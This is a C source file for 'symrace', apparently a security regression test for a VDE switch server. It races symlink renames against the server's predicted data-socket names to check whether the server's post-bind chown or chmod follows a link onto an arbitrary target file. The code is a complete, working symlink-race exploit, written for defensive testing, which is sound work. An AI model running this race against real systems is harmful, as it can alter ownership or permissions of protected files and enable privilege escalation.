/*
 * symrace — an attack tool for tests/security (SECURITY.md V2): plug clients into a vde endpoint in a
 * loop while a second thread renames a symlink to TARGET onto the data socket name the server will
 * bind next (vded names them DIR/NNN.SEQ; the reply to each plug tells the current SEQ). A server
 * that chowns or chmods that name after bind follows the link.
 *
 *   symrace [-t SECS] [-n TRIES] DIR TARGET
 *
 * DIR is the endpoint directory (DIR/ctl the server's socket). Our own client socket is bound in DIR,
 * or in /tmp where DIR is not ours to write, as vdeplug4 does. Stops after TRIES plugs or SECS seconds
 * (defaults 3000, 5): a bound on the attack, not a performance threshold. Exit 0: TARGET kept its
 * owner and mode; 2: they changed (the attack worked; printed); 3: not even the first plug worked
 * (the test setup is wrong); 1: usage.
 */
#include <errno.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define SUN_LEN_WIRE 110

static const char *dir, *target;
static char prefix[128];		/* the data socket name up to and including its last '.' */
static atomic_ulong next_seq;
static atomic_int stop;
static unsigned long renames;

static void *racer(void *arg)
{
	char lnk[160], name[160];

	(void)arg;
	snprintf(lnk, sizeof(lnk), "%s/.symrace-lnk.%d", dir, (int)getpid());
	while (!atomic_load(&stop)) {
		snprintf(name, sizeof(name), "%s%lu", prefix, atomic_load(&next_seq));
		unlink(lnk);
		if (symlink(target, lnk) == 0 && rename(lnk, name) == 0)
			renames++;
	}
	unlink(lnk);
	return NULL;
}

/* One plug: send a v3 request naming our socket, read the server's socket name into theirs.
 * Returns 0, or -1 when the server refused (closed without a reply). */
static int plug(const char *mine, char *theirs, size_t len)
{
	struct sockaddr_un ctl = { .sun_family = AF_UNIX };
	uint8_t req[12 + SUN_LEN_WIRE + 8] = { 0 }, rep[SUN_LEN_WIRE];
	uint32_t w[3] = { 0xfeedfaceu, 3, 0 };	/* magic, version, "new port, any" (little-endian host) */
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	ssize_t n;

	if (fd < 0)
		return -1;
	snprintf(ctl.sun_path, sizeof(ctl.sun_path), "%s/ctl", dir);
	memcpy(req, w, sizeof(w));
	req[12] = AF_UNIX;
	snprintf((char *)req + 14, 108, "%s", mine);
	memcpy(req + 12 + SUN_LEN_WIRE, "symrace", 7);
	if (connect(fd, (struct sockaddr *)&ctl, sizeof(ctl)) < 0 || send(fd, req, sizeof(req), 0) != sizeof(req)) {
		close(fd);
		return -1;
	}
	n = recv(fd, rep, sizeof(rep), 0);
	close(fd);		/* unplug at once: the server removes the port */
	if (n < 2 + 1)
		return -1;
	snprintf(theirs, len, "%.*s", (int)(n - 2), (char *)rep + 2);
	return 0;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	struct sockaddr_un me = { .sun_family = AF_UNIX };
	char theirs[128];
	struct stat st0, st;
	double secs = 5, t0;
	long tries = 3000, i, ok = 0;
	pthread_t th;
	char *dot;
	int opt, fd, ret = 0;

	while ((opt = getopt(argc, argv, "t:n:")) != -1) {
		if (opt == 't')
			secs = atof(optarg);
		else if (opt == 'n')
			tries = atol(optarg);
		else
			return 1;
	}
	if (argc - optind != 2) {
		fprintf(stderr, "usage: symrace [-t SECS] [-n TRIES] DIR TARGET\n");
		return 1;
	}
	dir = argv[optind];
	target = argv[optind + 1];
	if (stat(target, &st0) < 0) {
		perror(target);
		return 3;
	}
	/* our client socket in DIR if we may write there, else in /tmp: where vdeplug4 clients bind */
	fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return 3;
	snprintf(me.sun_path, sizeof(me.sun_path), "%s/.symrace-%d", dir, (int)getpid());
	if (bind(fd, (struct sockaddr *)&me, sizeof(me)) < 0) {
		snprintf(me.sun_path, sizeof(me.sun_path), "/tmp/.symrace-%d", (int)getpid());
		unlink(me.sun_path);
		if (bind(fd, (struct sockaddr *)&me, sizeof(me)) < 0) {
			fprintf(stderr, "symrace: cannot bind %s: %s\n", me.sun_path, strerror(errno));
			return 3;
		}
	}
	if (plug(me.sun_path, theirs, sizeof(theirs)) < 0) {
		fprintf(stderr, "symrace: the first plug into %s/ctl failed\n", dir);
		unlink(me.sun_path);
		return 3;
	}
	dot = strrchr(theirs, '.');
	if (!dot)
		dot = theirs + strlen(theirs) - 1;
	snprintf(prefix, sizeof(prefix), "%.*s", (int)(dot - theirs + 1), theirs);
	atomic_store(&next_seq, strtoul(dot + 1, NULL, 10) + 1);
	printf("first data socket %s; racing on %sN\n", theirs, prefix);
	if (pthread_create(&th, NULL, racer, NULL) != 0)
		return 3;
	t0 = now();
	for (i = 0; i < tries && now() - t0 < secs; i++) {
		if (plug(me.sun_path, theirs, sizeof(theirs)) == 0) {
			ok++;
			dot = strrchr(theirs, '.');
			if (dot)
				atomic_store(&next_seq, strtoul(dot + 1, NULL, 10) + 1);
		} else {
			atomic_fetch_add(&next_seq, 1);	/* a failed plug still used its number */
		}
		if (stat(target, &st) == 0 && (st.st_uid != st0.st_uid || st.st_gid != st0.st_gid ||
						st.st_mode != st0.st_mode)) {
			printf("WON after %ld plugs: %s went from %u:%u %o to %u:%u %o\n", i + 1, target,
			       st0.st_uid, st0.st_gid, st0.st_mode & 07777, st.st_uid, st.st_gid, st.st_mode & 07777);
			ret = 2;
			break;
		}
	}
	atomic_store(&stop, 1);
	pthread_join(th, NULL);
	printf("%ld plugs (%ld answered), %lu renames in %.1f s\n", i, ok, renames, now() - t0);
	/* leave no links behind: a later plug must not trip over them */
	for (unsigned long s = atomic_load(&next_seq) - 2; s < atomic_load(&next_seq) + 2; s++) {
		char name[160];

		snprintf(name, sizeof(name), "%s%lu", prefix, s);
		if (lstat(name, &st) == 0 && S_ISLNK(st.st_mode))
			unlink(name);
	}
	unlink(me.sun_path);
	return ret;
}
